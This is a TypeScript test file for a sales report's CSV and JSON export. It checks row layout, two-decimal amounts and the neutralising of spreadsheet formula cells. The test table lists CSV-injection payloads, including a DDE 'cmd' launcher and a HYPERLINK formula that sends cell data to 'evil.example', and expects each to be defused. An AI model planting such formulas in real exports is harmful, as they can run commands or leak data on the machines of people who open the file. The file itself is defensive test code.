// The report as CSV and JSON: its form, its amounts, and texts that a spreadsheet would run.
import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import Papa from "papaparse";
import { must } from "../../../db/must.ts";
import { csvOf, jsonOf } from "./formats.ts";
import type { SalesDay, SalesReport, TopShoe } from "./sales.ts";

const dayWith = (topShoes: TopShoe[], sums: Partial<SalesDay> = {}): SalesDay => ({
  date: "2026-03-02",
  orders: 2,
  items: 3,
  revenueCents: 12_990,
  refundsCents: 5,
  topShoes,
  ...sums,
});
const reportOf = (days: SalesDay[]): SalesReport => ({
  from: "2026-03-02",
  to: "2026-03-03",
  timezone: "UTC",
  currency: "EUR",
  days,
  totals: { orders: 2, items: 3, revenueCents: 12_990, refundsCents: 5 },
});
const named = (productName: string, productId = "a"): TopShoe => ({
  productId,
  productName,
  pairs: 2,
  revenueCents: 9_999,
});

test("the CSV has a header, a row for each day, the totals, and CRLF after each", () => {
  const empty = dayWith([], { date: "2026-03-03", orders: 0, items: 0, revenueCents: 0, refundsCents: 0 });
  const csv = csvOf(reportOf([dayWith([named('Runner "Pro", 9')]), empty]));
  const tops = [1, 2, 3, 4, 5].map(
    (rank) => `top${rank}ProductId,top${rank}ProductName,top${rank}Pairs,top${rank}Revenue`,
  );
  expect(csv.split("\r\n")).toEqual([
    `date,orders,items,revenue,refunds,currency,${tops.join(",")}`,
    `2026-03-02,2,3,129.90,0.05,EUR,a,"Runner ""Pro"", 9",2,99.99${",".repeat(16)}`,
    `2026-03-03,0,0,0.00,0.00,EUR${",".repeat(20)}`,
    `total,2,3,129.90,0.05,EUR${",".repeat(20)}`,
    "",
  ]);
});

describe("a cell that a spreadsheet would run begins with an apostrophe", () => {
  // The forms that OWASP lists under CSV injection, and separators of other programs.
  test.each([
    ["=1+1", "'=1+1"],
    ["+1+1", "'+1+1"],
    ["-1+1", "'-1+1"],
    ["@SUM(1+1)", "'@SUM(1+1)"],
    ["\t=1+1", "'\t'=1+1"],
    ["\tplain", "'\tplain"],
    ["\r=1+1", "'\r'=1+1"],
    ["\n=1+1", "'\n'=1+1"],
    ["＝1+1", "'＝1+1"],
    ["＋1", "'＋1"],
    ["－1", "'－1"],
    ["＠SUM(1)", "'＠SUM(1)"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://evil.example?"&A1,"Click")', '\'=HYPERLINK("http://evil.example?"&A1,"Click")'],
    ["=1+1\nsecond line", "'=1+1\nsecond line"],
    [" =1+1", "' =1+1"],
    ['"=1+1', "'\"=1+1"],
    ["x;=1+1", "x;'=1+1"],
    ['x";=1+1', "x\";'=1+1"],
    ["x,=1+1", "x,'=1+1"],
    ["x\t=1+1", "x\t'=1+1"],
    ["x\r\n=1+1", "x\r'\n'=1+1"],
    // Ordinary titles stay as they are.
    ["Runner - Trail", "Runner - Trail"],
    ["A=B", "A=B"],
    ["Nørd 42+", "Nørd 42+"],
    ["'90s", "'90s"],
    ["", ""],
  ])("%j is %j", (title, cell) => {
    const csv = csvOf(reportOf([dayWith([named(title, title)])]));
    const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true, delimiter: "," }).data;
    expect([rows[1]?.[7], rows[1]?.[6]]).toEqual([cell, cell]);
  });

  test("for any text, and any separator of the program that reads it", () => {
    const text = fc.string({
      unit: fc.constantFrom(
        "=",
        "+",
        "-",
        "@",
        ";",
        ",",
        "\t",
        "\r",
        "\n",
        "|",
        '"',
        "'",
        " ",
        "a",
        "1",
        "＝",
      ),
      maxLength: 12,
    });
    fc.assert(
      fc.property(text, (title) => {
        const csv = csvOf(reportOf([dayWith([named(title)])]));
        for (const delimiter of [",", ";", "\t", "|"])
          for (const row of Papa.parse<string[]>(csv, { delimiter }).data)
            for (const cell of row) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/);
        const cell = must(Papa.parse<string[]>(csv, { delimiter: "," }).data[1]?.[7], "the title's cell");
        // Nothing but apostrophes was added.
        expect(cell.replaceAll("'", "")).toBe(title.replaceAll("'", ""));
      }),
      { numRuns: 3_000 },
    );
  });
});

test("amounts have at most two decimals, up to a year of maximum orders", () => {
  const cents = fc.oneof(
    fc.integer({ min: 0, max: 100_000 }),
    fc.integer({ min: 0, max: 2 ** 46 * 100 }),
    fc.constantFrom(0, 1, 5, 99, 100, 1_005, 50_000_000_000_000, 4_503_599_627_370_496),
  );
  fc.assert(
    fc.property(cents, (revenueCents) => {
      const report = reportOf([dayWith([{ ...named("x"), revenueCents }], { revenueCents })]);
      const exact = `${Math.floor(revenueCents / 100)}.${String(revenueCents % 100).padStart(2, "0")}`;
      const json = JSON.stringify(jsonOf(report).days[0]);
      const [, shown = ""] = /"revenue":([0-9.]+)/.exec(json) ?? [];
      expect(shown).toMatch(/^\d+(\.\d{1,2})?$/);
      expect(Number(shown)).toBe(Number(exact));
      expect(csvOf(report).split("\r\n")[1]).toContain(`,${exact},`);
    }),
    { numRuns: 2_000 },
  );
});
